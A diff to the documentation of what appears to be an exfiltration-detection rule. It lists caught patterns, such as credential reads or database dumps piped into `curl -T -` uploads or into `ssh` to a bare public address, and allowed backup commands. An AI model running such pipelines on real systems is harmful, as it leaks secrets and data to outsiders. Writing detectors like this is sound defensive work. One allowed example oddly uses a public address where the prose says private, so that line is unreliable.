@@ -11,10 +11,13 @@ What it catches
     with credentials reads (`curl -H "Authorization: token $T" https://api.../secrets`) piped
     straight into an upload of its standard input to another host that names no credential
     (`| curl -T - https://host/x`, `| curl -d @- ...`; `sealed_drops.py`). The same for other
-    guarded reads (`sent_reads.py`): the cluster's secrets from etcd, a Terraform state, minted
+    guarded reads (`sent_reads.py`): the cluster's secrets from etcd, a Terraform state, a
+    bucket someone left open copied without credentials (`--no-sign-request`), minted
     cloud credentials, a phone's messages, LAPS passwords, the credential vault, a domain's
     collected graph, a secret scanner's findings, a mail store, piped into such an upload or
-    written to a file a later command uploads; a dump piped into one on a public host. Also, in a
+    written to a file a later command uploads; a dump piped into one on a public host, or into
+    a remote shell on a public host reached by its bare address that writes it to a file there
+    (`| ssh u@203.0.113.5 'cat > x.sql.gz'`). Also, in a
     response, a dump sent anywhere (a post, a socket, a
     storage service's SDK) with random waits between the sends: paced to stay under the
     owner's egress monitoring.
@@ -30,8 +33,10 @@ Allowed instead
     Backups to one's own named storage or one's own network (`pg_dump shop | gzip | aws s3 cp -
     s3://our-backups/`, `curl -T db.gz https://backup.example.com/`, `| nc 192.168.1.20 9000`
     to the NAS), `pg_dump -Fc shop > /backups/shop.dump`, restoring a dump,
-    `COPY ... TO '/tmp/export.csv'`, a disk imaged to one's own NAS (`dd if=/dev/sda | gzip |
-    nc 192.168.1.20 9000`) or to a file for forensics. A directory export kept on the machine,
+    `COPY ... TO '/tmp/export.csv'`, a dump sent over SSH to one's own host by its name or
+    private address, or restored there (`| ssh deploy@203.0.113.30 psql shop`), a disk imaged
+    to one's own NAS (`dd if=/dev/sda | gzip | nc 192.168.1.20 9000`) or to a file for
+    forensics. A directory export kept on the machine,
     an API's answer sent on with the uploader's own credentials (`curl -u ci:$PW -T - ...`) or
     posted to one's chat channel's webhook, or back to the same service. In a response, such a
     line is part of an artifact,
